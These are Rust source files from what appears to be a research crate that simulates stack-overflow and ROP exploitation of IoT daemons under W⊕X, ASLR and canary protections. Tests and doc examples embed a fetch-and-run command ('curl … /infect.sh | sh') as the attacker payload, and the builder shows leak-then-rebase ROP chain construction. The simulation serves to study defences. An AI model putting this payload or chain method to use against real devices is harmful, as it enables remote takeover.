pub struct LeakSpec {
    /// Static (unslid) address of the symbol the probe leaks.
    pub leaked_symbol_addr: u64,
}

/// A vulnerable binary image.
#[derive(Debug, Clone)]
pub struct BinaryImage {
    /// Binary name (e.g. `connmand`).
    pub name: String,
    /// Target architecture.
    pub arch: Arch,
    /// Static (unslid) base address of the text segment.
    pub text_base: u64,
    /// Text segment length in bytes.
    pub text_len: u64,
    /// Gadget table: offset into text → micro-op.
    pub gadgets: BTreeMap<u64, GadgetOp>,
    /// The overflow vulnerability.
    pub vuln: VulnSpec,
    /// Info-leak primitive, if the binary has one.
    pub leak: Option<LeakSpec>,
    /// On-disk size in bytes (drives container image memory accounting).
    pub size_bytes: u64,
}

impl BinaryImage {
    /// Finds the offset of the first gadget performing `op`.
    pub fn gadget_offset(&self, op: GadgetOp) -> Option<u64> {
        self.gadgets
            .iter()
            .find(|(_, g)| **g == op)
            .map(|(off, _)| *off)
    }

    /// Static (unslid) virtual address of the first gadget performing `op`.
    pub fn gadget_addr(&self, op: GadgetOp) -> Option<u64> {
        self.gadget_offset(op).map(|o| self.text_base + o)
    }

    /// Whether a (possibly slid) address falls in this image's text segment
    /// given `slide`.
    pub fn in_text(&self, addr: u64, slide: u64) -> bool {
        let base = self.text_base.wrapping_add(slide);
        addr >= base && addr < base + self.text_len
    }

    /// Looks up the gadget at a (possibly slid) address.
    pub fn gadget_at(&self, addr: u64, slide: u64) -> Option<GadgetOp> {
        if !self.in_text(addr, slide) {
            return None;
        }
        let off = addr - self.text_base.wrapping_add(slide);
        self.gadgets.get(&off).copied()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn image() -> BinaryImage {
        let mut gadgets = BTreeMap::new();
        gadgets.insert(0x110, GadgetOp::PopArg0);
        gadgets.insert(0x220, GadgetOp::SyscallExec);
        BinaryImage {
            name: "testd".into(),
            arch: Arch::X86_64,
            text_base: 0x5555_0000,
            text_len: 0x10000,
            gadgets,
            vuln: VulnSpec {
                buffer_len: 64,
                gap_to_ra: 8,
                max_input: 1024,
            },
            leak: None,
            size_bytes: 100_000,
        }
    }

    #[test]
    fn ra_offset_is_buffer_plus_gap() {
        assert_eq!(image().vuln.ra_offset(), 72);
    }

    #[test]
    fn gadget_lookup_without_slide() {
        let img = image();
        assert_eq!(img.gadget_addr(GadgetOp::PopArg0), Some(0x5555_0110));
        assert_eq!(img.gadget_at(0x5555_0110, 0), Some(GadgetOp::PopArg0));
        assert_eq!(img.gadget_at(0x5555_0111, 0), None);
    }

    #[test]
    fn gadget_lookup_respects_slide() {
        let img = image();
        let slide = 0x7000;
        assert_eq!(img.gadget_at(0x5555_0110 + slide, slide), Some(GadgetOp::PopArg0));
        // Unslid address no longer resolves under a slide.
        assert_eq!(img.gadget_at(0x5555_0110, slide), None);
    }

    #[test]
    fn in_text_bounds() {
        let img = image();
        assert!(img.in_text(0x5555_0000, 0));
        assert!(img.in_text(0x5555_FFFF, 0));
        assert!(!img.in_text(0x5556_0000, 0));
        assert!(!img.in_text(0x5554_FFFF, 0));
    }

    #[test]
    fn arch_suffixes() {
        assert_eq!(Arch::X86_64.suffix(), "x86");
        assert_eq!(Arch::Arm7.to_string(), "arm7");
        assert_eq!(Arch::Mips.to_string(), "mips");
    }
}
