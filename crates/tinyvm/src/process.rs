//! The vulnerable process: a running instance of a [`BinaryImage`] that
//! copies network input into a fixed stack buffer and "returns" through
//! whatever the input left there.
//!
//! This is the execution side of the memory-error model. It honours the
//! paper's attack-model semantics exactly:
//!
//! * inputs that fit the buffer are handled normally;
//! * longer inputs overwrite the saved return address;
//! * a return into the stack is code injection — succeeds only without W⊕X;
//! * a return into the text segment executes gadgets — works regardless of
//!   W⊕X (that is the point of ROP), but the chain's addresses must match
//!   the process's actual load slide, so static chains crash under ASLR;
//! * an `execlp` gadget with a valid command pointer yields the attacker's
//!   shell command.

use crate::image::{BinaryImage, GadgetOp};
use crate::protections::Protections;
use rand::Rng;
use std::fmt;
use std::sync::Arc;

/// Static (unslid) stack address at which the daemon's input buffer lives.
/// All regions slide together under ASLR.
pub const STACK_PAYLOAD_BASE: u64 = 0x7fff_ff10_0000;

/// Number of 4-KiB pages the ASLR slide is drawn from.
pub const ASLR_PAGES: u64 = 0xFFFF;

/// A defense that stopped an exploit.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Defense {
    /// W⊕X blocked execution of writable memory.
    WriteXorExecute,
}

/// Why the process crashed.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum CrashReason {
    /// The overwritten return address pointed nowhere executable/known —
    /// the signature of a static ROP chain meeting ASLR.
    InvalidReturnAddress(u64),
    /// The stack canary was clobbered: `*** stack smashing detected ***`.
    /// The process aborts before the corrupted return address is used, so
    /// no exploit strategy in this codebase survives it.
    StackSmashingDetected,
    /// A syscall gadget ran with a bad argument pointer.
    BadSyscallArgument,
    /// The chain ran past its last word without reaching a syscall.
    ChainOverrun,
}

/// Result of delivering one network input to the process.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum DeliveryOutcome {
    /// Input fit the buffer; handled as normal protocol traffic.
    Handled,
    /// An exploit was stopped by a memory defense; the process survives.
    Blocked(Defense),
    /// The process crashed (it must be restarted before handling more
    /// input).
    Crashed(CrashReason),
    /// The exploit succeeded: the process performed
    /// `execlp("sh","-c",cmd)`. The process is now running the attacker's
    /// command.
    Exec(String),
    /// The process is dead (crashed earlier and not yet restarted).
    Dead,
}

impl DeliveryOutcome {
    /// Whether the exploit achieved command execution.
    pub fn is_exec(&self) -> bool {
        matches!(self, DeliveryOutcome::Exec(_))
    }
}

/// A running instance of a vulnerable daemon.
///
/// # Examples
///
/// ```
/// use tinyvm::{catalog, Arch, Protections, VulnProcess};
/// use rand::SeedableRng;
/// use std::sync::Arc;
///
/// let image = Arc::new(catalog::dnsmasq_image(Arch::X86_64));
/// let mut rng = rand::rngs::SmallRng::seed_from_u64(7);
/// let mut process = VulnProcess::start(image, Protections::FULL, &mut rng);
/// // Ordinary protocol input is handled; it never hijacks control flow.
/// assert_eq!(process.deliver_input(b"dhcp solicit"), tinyvm::DeliveryOutcome::Handled);
/// ```
#[derive(Debug, Clone)]
pub struct VulnProcess {
    image: Arc<BinaryImage>,
    protections: Protections,
    slide: u64,
    alive: bool,
    crashes: u32,
}

impl VulnProcess {
    /// Starts a process from `image` with the given protections, drawing an
    /// ASLR slide from `rng` if enabled.
    pub fn start<R: Rng + ?Sized>(
        image: Arc<BinaryImage>,
        protections: Protections,
        rng: &mut R,
    ) -> Self {
        let slide = if protections.aslr {
            rng.gen_range(1..=ASLR_PAGES) * 0x1000
        } else {
            0
        };
        VulnProcess {
            image,
            protections,
            slide,
            alive: true,
            crashes: 0,
        }
    }

    /// The image this process runs.
    pub fn image(&self) -> &BinaryImage {
        &self.image
    }

    /// The process's memory protections.
    pub fn protections(&self) -> Protections {
        self.protections
    }

    /// The current ASLR slide (0 without ASLR).
    pub fn slide(&self) -> u64 {
        self.slide
    }

    /// Whether the process is running.
    pub fn is_alive(&self) -> bool {
        self.alive
    }

    /// Times the process has crashed so far.
    pub fn crash_count(&self) -> u32 {
        self.crashes
    }

    /// Restarts a crashed process (the firmware supervisor path); a fresh
    /// ASLR slide is drawn.
    pub fn restart<R: Rng + ?Sized>(&mut self, rng: &mut R) {
        if self.protections.aslr {
            self.slide = rng.gen_range(1..=ASLR_PAGES) * 0x1000;
        }
        self.alive = true;
    }

    /// Answers an information-leak probe: the slid address of the leaked
    /// symbol, if the binary exposes a leak primitive.
    pub fn leak_probe(&self) -> Option<u64> {
        if !self.alive {
            return None;
        }
        self.image
            .leak
            .map(|l| l.leaked_symbol_addr.wrapping_add(self.slide))
    }

    fn stack_payload_range(&self, input_len: usize) -> (u64, u64) {
        let base = STACK_PAYLOAD_BASE.wrapping_add(self.slide);
        (base, base + input_len as u64)
    }

    /// Reads a NUL-terminated string at stack address `addr` inside the
    /// delivered input.
    fn read_cstr(&self, input: &[u8], addr: u64) -> Option<String> {
        let (base, end) = self.stack_payload_range(input.len());
        if addr < base || addr >= end {
            return None;
        }
        let off = (addr - base) as usize;
        let rest = &input[off..];
        let nul = rest.iter().position(|b| *b == 0)?;
        String::from_utf8(rest[..nul].to_vec()).ok()
    }

    /// Delivers one network input to the vulnerable copy path.
    pub fn deliver_input(&mut self, input: &[u8]) -> DeliveryOutcome {
        if !self.alive {
            return DeliveryOutcome::Dead;
        }
        let max = self.image.vuln.max_input;
        let input = if input.len() > max { &input[..max] } else { input };
        let ra_offset = self.image.vuln.ra_offset();
        if input.len() < ra_offset + 8 {
            // The saved return address survives: normal handling (possibly
            // clobbered locals, but no control-flow hijack).
            return DeliveryOutcome::Handled;
        }
        if self.protections.canary {
            // The guard value between buffer and RA was overwritten by the
            // linear copy; __stack_chk_fail aborts before the return.
            self.crash();
            return DeliveryOutcome::Crashed(CrashReason::StackSmashingDetected);
        }
        self.execute_hijack(input, ra_offset)
    }

    fn execute_hijack(&mut self, input: &[u8], ra_offset: usize) -> DeliveryOutcome {
        let words: Vec<u64> = input[ra_offset..]
            .chunks_exact(8)
            .map(|c| u64::from_le_bytes(c.try_into().expect("chunks_exact yields 8")))
            .collect();
        let (stack_base, stack_end) = self.stack_payload_range(input.len());
        let mut arg0: Option<u64> = None;
        let mut pc = 0usize;
        // Bounded walk: a real chain is a handful of gadgets.
        for _ in 0..64 {
            let Some(&word) = words.get(pc) else {
                self.crash();
                return DeliveryOutcome::Crashed(CrashReason::ChainOverrun);
            };
            if word >= stack_base && word < stack_end {
                // Return into the stack: code injection.
                if self.protections.wx {
                    return DeliveryOutcome::Blocked(Defense::WriteXorExecute);
                }
                let cmd = self
                    .read_cstr(input, word)
                    .unwrap_or_else(|| "<shellcode>".to_owned());
                return DeliveryOutcome::Exec(cmd);
            }
            match self.image.gadget_at(word, self.slide) {
                Some(GadgetOp::PopArg0) => {
                    arg0 = words.get(pc + 1).copied();
                    pc += 2;
                }
                Some(GadgetOp::PopArg1) => {
                    pc += 2;
                }
                Some(GadgetOp::Ret) => {
                    pc += 1;
                }
                Some(GadgetOp::SyscallExec) => {
                    let Some(ptr) = arg0 else {
                        self.crash();
                        return DeliveryOutcome::Crashed(CrashReason::BadSyscallArgument);
                    };
                    let Some(cmd) = self.read_cstr(input, ptr) else {
                        self.crash();
                        return DeliveryOutcome::Crashed(CrashReason::BadSyscallArgument);
                    };
                    return DeliveryOutcome::Exec(cmd);
                }
                None => {
                    self.crash();
                    return DeliveryOutcome::Crashed(CrashReason::InvalidReturnAddress(word));
                }
            }
        }
        self.crash();
        DeliveryOutcome::Crashed(CrashReason::ChainOverrun)
    }

    fn crash(&mut self) {
        self.alive = false;
        self.crashes += 1;
    }
}

impl fmt::Display for VulnProcess {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "{} [{}] slide={:#x} {}",
            self.image.name,
            self.protections,
            self.slide,
            if self.alive { "running" } else { "crashed" }
        )
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::catalog;
    use crate::image::Arch;
    use crate::rop::RopChainBuilder;
    use rand::rngs::SmallRng;
    use rand::SeedableRng;

    fn proc(p: Protections, seed: u64) -> VulnProcess {
        let img = Arc::new(catalog::connman_image(Arch::X86_64));
        let mut rng = SmallRng::seed_from_u64(seed);
        VulnProcess::start(img, p, &mut rng)
    }

    const CMD: &str = "curl -s http://10.0.0.2/infect.sh | sh";

    #[test]
    fn benign_input_is_handled() {
        let mut p = proc(Protections::NONE, 1);
        assert_eq!(p.deliver_input(b"normal dns response"), DeliveryOutcome::Handled);
        assert!(p.is_alive());
    }

    #[test]
    fn rop_chain_execs_without_protections() {
        let mut p = proc(Protections::NONE, 1);
        let chain = RopChainBuilder::new(p.image(), 0).execlp(CMD).expect("builds");
        assert_eq!(p.deliver_input(&chain.encode()), DeliveryOutcome::Exec(CMD.into()));
    }

    #[test]
    fn rop_chain_execs_despite_wx() {
        let mut p = proc(Protections::WX, 1);
        let chain = RopChainBuilder::new(p.image(), 0).execlp(CMD).expect("builds");
        assert!(p.deliver_input(&chain.encode()).is_exec(), "ROP defeats W^X");
    }

    #[test]
    fn static_chain_crashes_under_aslr() {
        let mut p = proc(Protections::ASLR, 7);
        assert_ne!(p.slide(), 0);
        let chain = RopChainBuilder::new(p.image(), 0).execlp(CMD).expect("builds");
        let out = p.deliver_input(&chain.encode());
        assert!(
            matches!(out, DeliveryOutcome::Crashed(CrashReason::InvalidReturnAddress(_))),
            "got {out:?}"
        );
        assert!(!p.is_alive());
    }

    #[test]
    fn leak_then_rebased_chain_defeats_aslr() {
        let mut p = proc(Protections::FULL, 7);
        let img = catalog::connman_image(Arch::X86_64);
        let leaked = p.leak_probe().expect("connman-like image leaks");
        let slide = leaked - img.leak.expect("leak spec").leaked_symbol_addr;
        assert_eq!(slide, p.slide());
        let chain = RopChainBuilder::new(&img, slide).execlp(CMD).expect("builds");
        assert_eq!(p.deliver_input(&chain.encode()), DeliveryOutcome::Exec(CMD.into()));
    }

    #[test]
    fn shellcode_blocked_by_wx_but_works_without() {
        let mut protected = proc(Protections::WX, 3);
        let chain = RopChainBuilder::new(protected.image(), 0).stack_shellcode(CMD);
        assert_eq!(
            protected.deliver_input(&chain.encode()),
            DeliveryOutcome::Blocked(Defense::WriteXorExecute)
        );
        assert!(protected.is_alive(), "blocked exploit does not kill the daemon");

        let mut open = proc(Protections::NONE, 3);
        let chain = RopChainBuilder::new(open.image(), 0).stack_shellcode(CMD);
        assert!(open.deliver_input(&chain.encode()).is_exec());
    }

    #[test]
    fn dead_process_ignores_input_until_restart() {
        let mut p = proc(Protections::ASLR, 9);
        let chain = RopChainBuilder::new(p.image(), 0).execlp(CMD).expect("builds");
        let _ = p.deliver_input(&chain.encode());
        assert!(!p.is_alive());
        assert_eq!(p.deliver_input(b"hello"), DeliveryOutcome::Dead);
        assert_eq!(p.crash_count(), 1);
        let mut rng = SmallRng::seed_from_u64(5);
        let old_slide = p.slide();
        p.restart(&mut rng);
        assert!(p.is_alive());
        assert_ne!(p.slide(), old_slide, "restart re-randomizes the slide");
        assert_eq!(p.deliver_input(b"hello"), DeliveryOutcome::Handled);
    }

    #[test]
    fn slide_is_zero_without_aslr() {
        let p = proc(Protections::WX, 11);
        assert_eq!(p.slide(), 0);
    }

    #[test]
    fn canary_stops_every_strategy() {
        let img = Arc::new(catalog::connman_image(Arch::X86_64));
        let mut rng = SmallRng::seed_from_u64(21);
        let mut p = VulnProcess::start(Arc::clone(&img), Protections::HARDENED, &mut rng);
        // Even a perfectly rebased chain dies to the canary check.
        let leaked = p.leak_probe().expect("leaks");
        let slide = leaked - img.leak.expect("leak spec").leaked_symbol_addr;
        let chain = RopChainBuilder::new(&img, slide).execlp(CMD).expect("builds");
        assert_eq!(
            p.deliver_input(&chain.encode()),
            DeliveryOutcome::Crashed(CrashReason::StackSmashingDetected)
        );
        // Benign traffic is unaffected.
        let mut q = VulnProcess::start(img, Protections::HARDENED, &mut rng);
        assert_eq!(q.deliver_input(b"benign"), DeliveryOutcome::Handled);
    }

    #[test]
    fn garbage_overflow_crashes() {
        let mut p = proc(Protections::NONE, 1);
        let ra = p.image().vuln.ra_offset();
        let garbage = vec![0xEEu8; ra + 32];
        assert!(matches!(
            p.deliver_input(&garbage),
            DeliveryOutcome::Crashed(CrashReason::InvalidReturnAddress(_))
        ));
    }
}
