//! Memory protections: W⊕X and ASLR.
//!
//! The paper's attack model (§III-B): Devs enable "some subset" of W⊕X and
//! ASLR, so the Attacker cannot inject code or reuse libc wholesale, but can
//! build ROP chains from binary knowledge. [`Protections`] captures one
//! device's configuration; [`ProtectionMix`] describes a population.

use rand::Rng;
use std::fmt;

/// Memory protections enabled on one device.
///
/// W⊕X and ASLR are the paper's attack-model subsets (§III-B). Stack
/// canaries are an *extension* of this reproduction: the kind of
/// "reasonable security level" the legislation the paper cites would
/// mandate, and the mitigation that defeats even the leak+rebase exploit
/// (the overflow is detected before the corrupted return address is used).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Default)]
pub struct Protections {
    /// W⊕X (write XOR execute): memory is writable or executable, never
    /// both — blocks stack shellcode.
    pub wx: bool,
    /// ASLR: the load address is randomized per process — static ROP chains
    /// crash unless the attacker first leaks the slide.
    pub aslr: bool,
    /// Stack canary (`-fstack-protector`): a secret guard value between
    /// the buffer and the saved return address; any linear overflow is
    /// detected at function exit and aborts the process.
    pub canary: bool,
}

impl Protections {
    /// No protections.
    pub const NONE: Protections = Protections { wx: false, aslr: false, canary: false };
    /// W⊕X only.
    pub const WX: Protections = Protections { wx: true, aslr: false, canary: false };
    /// ASLR only.
    pub const ASLR: Protections = Protections { wx: false, aslr: true, canary: false };
    /// W⊕X + ASLR (the strongest configuration in the paper's model).
    pub const FULL: Protections = Protections { wx: true, aslr: true, canary: false };
    /// W⊕X + ASLR + stack canary (the hardening extension).
    pub const HARDENED: Protections = Protections { wx: true, aslr: true, canary: true };

    /// The paper's four W⊕X/ASLR subsets (no canary).
    pub const ALL_SUBSETS: [Protections; 4] =
        [Protections::NONE, Protections::WX, Protections::ASLR, Protections::FULL];
}

impl fmt::Display for Protections {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let base = match (self.wx, self.aslr) {
            (false, false) => "none",
            (true, false) => "w^x",
            (false, true) => "aslr",
            (true, true) => "w^x+aslr",
        };
        if self.canary {
            if self.wx || self.aslr {
                write!(f, "{base}+canary")
            } else {
                f.write_str("canary")
            }
        } else {
            f.write_str(base)
        }
    }
}

/// How protections are distributed across a population of Devs.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
#[derive(Default)]
pub enum ProtectionMix {
    /// Every device uses the same configuration.
    Uniform(Protections),
    /// Each device draws a uniformly random subset of {W⊕X, ASLR} — the
    /// paper's "different memory protection levels".
    #[default]
    RandomSubsets,
}

impl ProtectionMix {
    /// Samples the protections for one device.
    pub fn sample<R: Rng + ?Sized>(&self, rng: &mut R) -> Protections {
        match self {
            ProtectionMix::Uniform(p) => *p,
            ProtectionMix::RandomSubsets => Protections {
                wx: rng.gen_bool(0.5),
                aslr: rng.gen_bool(0.5),
                canary: false,
            },
        }
    }
}


#[cfg(test)]
mod tests {
    use super::*;
    use rand::rngs::SmallRng;
    use rand::SeedableRng;

    #[test]
    fn display_covers_all_subsets() {
        let names: Vec<String> = Protections::ALL_SUBSETS
            .iter()
            .map(|p| p.to_string())
            .collect();
        assert_eq!(names, vec!["none", "w^x", "aslr", "w^x+aslr"]);
        assert_eq!(Protections::HARDENED.to_string(), "w^x+aslr+canary");
        assert_eq!(
            Protections { canary: true, ..Protections::NONE }.to_string(),
            "canary"
        );
    }

    #[test]
    fn uniform_mix_is_constant() {
        let mut rng = SmallRng::seed_from_u64(1);
        let mix = ProtectionMix::Uniform(Protections::FULL);
        for _ in 0..10 {
            assert_eq!(mix.sample(&mut rng), Protections::FULL);
        }
    }

    #[test]
    fn random_mix_hits_every_subset_eventually() {
        let mut rng = SmallRng::seed_from_u64(2);
        let mix = ProtectionMix::RandomSubsets;
        let mut seen = std::collections::HashSet::new();
        for _ in 0..200 {
            seen.insert(mix.sample(&mut rng));
        }
        assert_eq!(seen.len(), 4);
    }
}
