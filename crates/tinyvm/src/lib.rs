//! # tinyvm — the memory-error target machine
//!
//! A compact model of stack-buffer-overflow exploitation in IoT daemons,
//! faithful to the paper's attack model (§III-B):
//!
//! * a [`BinaryImage`] describes a vulnerable daemon: load addresses, a
//!   ROP-gadget table, the overflow geometry, and an optional info-leak
//!   primitive ([`catalog`] provides Connman- and Dnsmasq-like images);
//! * a [`VulnProcess`] runs an image under a choice of [`Protections`]
//!   (W⊕X and/or ASLR) and executes whatever a delivered input leaves in
//!   place of the saved return address;
//! * [`RopChainBuilder`] constructs `execlp("sh","-c",…)` chains — and
//!   naive stack shellcode, to demonstrate why code injection fails under
//!   W⊕X while ROP does not.
//!
//! The semantics reproduce the paper's findings: ROP defeats W⊕X; static
//! chains crash under ASLR; a leak-then-rebase two-stage exploit restores a
//! 100% infection rate (R2).
//!
//! # Examples
//!
//! ```
//! use tinyvm::{catalog, Arch, Protections, RopChainBuilder, VulnProcess};
//! use rand::SeedableRng;
//! use std::sync::Arc;
//!
//! let image = Arc::new(catalog::connman_image(Arch::X86_64));
//! let mut rng = rand::rngs::SmallRng::seed_from_u64(1);
//! let mut process = VulnProcess::start(Arc::clone(&image), Protections::WX, &mut rng);
//! let chain = RopChainBuilder::new(&image, 0)
//!     .execlp("curl -s http://10.0.0.2/infect.sh | sh")?;
//! assert!(process.deliver_input(&chain.encode()).is_exec());
//! # Ok::<(), tinyvm::BuildChainError>(())
//! ```

#![warn(missing_docs)]
#![warn(missing_debug_implementations)]

pub mod catalog;
pub mod image;
pub mod process;
pub mod protections;
pub mod rop;

pub use image::{Arch, BinaryImage, GadgetOp, LeakSpec, VulnSpec};
pub use process::{CrashReason, Defense, DeliveryOutcome, VulnProcess, STACK_PAYLOAD_BASE};
pub use protections::{ProtectionMix, Protections};
pub use rop::{BuildChainError, RopChain, RopChainBuilder};
