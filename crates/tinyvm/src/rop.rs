//! ROP chains: construction (the attacker side) and encoding.
//!
//! A chain is a sequence of 64-bit words that overwrites a saved return
//! address and the stack beyond it, followed by trailing data (command
//! strings). [`RopChainBuilder`] plays the role of English et al.'s exploit
//! construction: given a [`BinaryImage`] and a known ASLR slide it emits a
//! chain that ends in `execlp("sh", "-c", <cmd>)`.

use crate::image::{BinaryImage, GadgetOp};
use crate::process::STACK_PAYLOAD_BASE;
use std::fmt;

/// Why a chain could not be built.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum BuildChainError {
    /// The image lacks a required gadget.
    MissingGadget(GadgetOp),
    /// The encoded exploit would exceed the vulnerable read's input bound.
    TooLong {
        /// Bytes the exploit would need.
        needed: usize,
        /// Maximum input the daemon reads.
        max: usize,
    },
}

impl fmt::Display for BuildChainError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            BuildChainError::MissingGadget(op) => write!(f, "image lacks gadget {op:?}"),
            BuildChainError::TooLong { needed, max } => {
                write!(f, "exploit needs {needed} bytes but input is capped at {max}")
            }
        }
    }
}

impl std::error::Error for BuildChainError {}

/// An encoded overflow payload: filler, chain words, trailing data.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RopChain {
    /// Chain words, starting with the value that overwrites the saved RA.
    pub words: Vec<u64>,
    /// Data appended after the chain (command strings, NUL-terminated).
    pub trailing: Vec<u8>,
    /// RA offset this chain was encoded for.
    pub ra_offset: usize,
}

impl RopChain {
    /// Serializes to the raw bytes delivered over the network: `ra_offset`
    /// filler bytes, then the words (little-endian), then trailing data.
    pub fn encode(&self) -> Vec<u8> {
        let mut out = vec![0x41u8; self.ra_offset];
        for w in &self.words {
            out.extend_from_slice(&w.to_le_bytes());
        }
        out.extend_from_slice(&self.trailing);
        out
    }

    /// Total encoded length in bytes.
    pub fn encoded_len(&self) -> usize {
        self.ra_offset + self.words.len() * 8 + self.trailing.len()
    }

    /// Human-readable disassembly of the chain against `image` (annotates
    /// each word as a gadget, a stack pointer, or unknown) — what an
    /// analyst's exploit-development notes look like.
    pub fn describe(&self, image: &crate::image::BinaryImage, slide: u64) -> String {
        use std::fmt::Write as _;
        let mut out = format!(
            "overflow: {} filler bytes, RA at +{}
",
            self.ra_offset, self.ra_offset
        );
        for (i, word) in self.words.iter().enumerate() {
            let annotation = match image.gadget_at(*word, slide) {
                Some(op) => format!("gadget {op:?}"),
                None if *word >= crate::process::STACK_PAYLOAD_BASE.wrapping_add(slide) => {
                    "stack pointer (argument)".to_owned()
                }
                None => "unresolved address".to_owned(),
            };
            let _ = writeln!(out, "  [{i}] {word:#018x}  ; {annotation}");
        }
        if !self.trailing.is_empty() {
            let printable: String = self
                .trailing
                .iter()
                .take_while(|b| **b != 0)
                .map(|b| if b.is_ascii_graphic() || *b == b' ' { *b as char } else { '.' })
                .collect();
            let _ = writeln!(out, "  trailing: \"{printable}\" ({} bytes)", self.trailing.len());
        }
        out
    }
}

/// Builds exploits against a [`BinaryImage`].
#[derive(Debug, Clone)]
pub struct RopChainBuilder<'a> {
    image: &'a BinaryImage,
    slide: u64,
}

impl<'a> RopChainBuilder<'a> {
    /// Creates a builder for `image`, assuming the text segment is loaded at
    /// its static base plus `slide` (0 when the target has no ASLR; the
    /// leaked value otherwise).
    pub fn new(image: &'a BinaryImage, slide: u64) -> Self {
        RopChainBuilder { image, slide }
    }

    /// Builds the paper's payload: a chain invoking
    /// `execlp("sh","-c","curl -s <url> | sh")` — `cmd` is the full shell
    /// command string.
    ///
    /// # Errors
    ///
    /// Returns [`BuildChainError::MissingGadget`] if the image lacks
    /// `PopArg0` or `SyscallExec` gadgets, and [`BuildChainError::TooLong`]
    /// if the encoded exploit exceeds the vulnerable input bound.
    pub fn execlp(&self, cmd: &str) -> Result<RopChain, BuildChainError> {
        let pop0 = self
            .image
            .gadget_addr(GadgetOp::PopArg0)
            .ok_or(BuildChainError::MissingGadget(GadgetOp::PopArg0))?;
        let syscall = self
            .image
            .gadget_addr(GadgetOp::SyscallExec)
            .ok_or(BuildChainError::MissingGadget(GadgetOp::SyscallExec))?;
        let ra_offset = self.image.vuln.ra_offset();
        // Three words: [pop arg0][ptr to cmd][syscall]. The command string
        // sits right after the chain inside the delivered payload, whose
        // stack address slides together with the image.
        let cmd_ptr = STACK_PAYLOAD_BASE
            .wrapping_add(self.slide)
            .wrapping_add(ra_offset as u64)
            .wrapping_add(3 * 8);
        let words = vec![
            pop0.wrapping_add(self.slide),
            cmd_ptr,
            syscall.wrapping_add(self.slide),
        ];
        let mut trailing = cmd.as_bytes().to_vec();
        trailing.push(0);
        let chain = RopChain {
            words,
            trailing,
            ra_offset,
        };
        let needed = chain.encoded_len();
        let max = self.image.vuln.max_input;
        if needed > max {
            return Err(BuildChainError::TooLong { needed, max });
        }
        Ok(chain)
    }

    /// Builds a naive *code-injection* payload (shellcode on the stack):
    /// the saved RA points straight into the delivered bytes. Blocked by
    /// W⊕X — included to demonstrate the paper's attack-model assumption
    /// that code injection fails on protected Devs.
    pub fn stack_shellcode(&self, cmd: &str) -> RopChain {
        let ra_offset = self.image.vuln.ra_offset();
        let shellcode_ptr = STACK_PAYLOAD_BASE
            .wrapping_add(self.slide)
            .wrapping_add(ra_offset as u64)
            .wrapping_add(8);
        let mut trailing = cmd.as_bytes().to_vec();
        trailing.push(0);
        RopChain {
            words: vec![shellcode_ptr],
            trailing,
            ra_offset,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::catalog;
    use crate::image::Arch;

    #[test]
    fn execlp_chain_has_three_words() {
        let img = catalog::connman_image(Arch::X86_64);
        let chain = RopChainBuilder::new(&img, 0)
            .execlp("curl -s http://10.0.0.1/sh | sh")
            .expect("connman image has the required gadgets");
        assert_eq!(chain.words.len(), 3);
        assert_eq!(chain.ra_offset, img.vuln.ra_offset());
        assert!(chain.trailing.ends_with(&[0]));
    }

    #[test]
    fn encode_layout() {
        let img = catalog::connman_image(Arch::X86_64);
        let chain = RopChainBuilder::new(&img, 0).execlp("x").expect("builds");
        let bytes = chain.encode();
        assert_eq!(bytes.len(), chain.encoded_len());
        // Filler then first word.
        assert!(bytes[..chain.ra_offset].iter().all(|b| *b == 0x41));
        let w0 = u64::from_le_bytes(bytes[chain.ra_offset..chain.ra_offset + 8].try_into().expect("8 bytes"));
        assert_eq!(w0, chain.words[0]);
    }

    #[test]
    fn slide_shifts_gadget_words() {
        let img = catalog::connman_image(Arch::X86_64);
        let c0 = RopChainBuilder::new(&img, 0).execlp("x").expect("builds");
        let c1 = RopChainBuilder::new(&img, 0x4000).execlp("x").expect("builds");
        assert_eq!(c1.words[0], c0.words[0] + 0x4000);
        assert_eq!(c1.words[2], c0.words[2] + 0x4000);
    }

    #[test]
    fn too_long_command_is_rejected() {
        let img = catalog::connman_image(Arch::X86_64);
        let huge = "x".repeat(img.vuln.max_input + 1);
        assert!(matches!(
            RopChainBuilder::new(&img, 0).execlp(&huge),
            Err(BuildChainError::TooLong { .. })
        ));
    }

    #[test]
    fn describe_annotates_gadgets_and_arguments() {
        let img = catalog::connman_image(Arch::X86_64);
        let chain = RopChainBuilder::new(&img, 0)
            .execlp("curl -s http://10.0.0.2/i.sh | sh")
            .expect("builds");
        let text = chain.describe(&img, 0);
        assert!(text.contains("gadget PopArg0"));
        assert!(text.contains("gadget SyscallExec"));
        assert!(text.contains("stack pointer"));
        assert!(text.contains("curl -s"));
    }

    #[test]
    fn missing_gadget_is_reported() {
        let mut img = catalog::connman_image(Arch::X86_64);
        img.gadgets.retain(|_, g| *g != GadgetOp::SyscallExec);
        assert_eq!(
            RopChainBuilder::new(&img, 0).execlp("x").unwrap_err(),
            BuildChainError::MissingGadget(GadgetOp::SyscallExec)
        );
    }
}
