//! Catalog of the experiment's vulnerable binary images.
//!
//! These model the two real-world IoT network daemons the paper loads into
//! Devs: **Connman** (`connmand`, stack overflow in its DNS proxy —
//! CVE-2017-12865) and **Dnsmasq** (stack overflow handling DHCPv6
//! RELAY-FORW — CVE-2017-14493). Geometry and gadget offsets are synthetic
//! but per-architecture distinct, reflecting that an attacker must build a
//! separate chain per (binary, architecture) pair.

use crate::image::{Arch, BinaryImage, GadgetOp, LeakSpec, VulnSpec};
use std::collections::BTreeMap;

fn arch_salt(arch: Arch) -> u64 {
    match arch {
        Arch::X86_64 => 0,
        Arch::Arm7 => 0x1130,
        Arch::Mips => 0x2260,
    }
}

fn gadget_table(base_off: u64) -> BTreeMap<u64, GadgetOp> {
    let mut g = BTreeMap::new();
    g.insert(base_off + 0x11a0, GadgetOp::PopArg0);
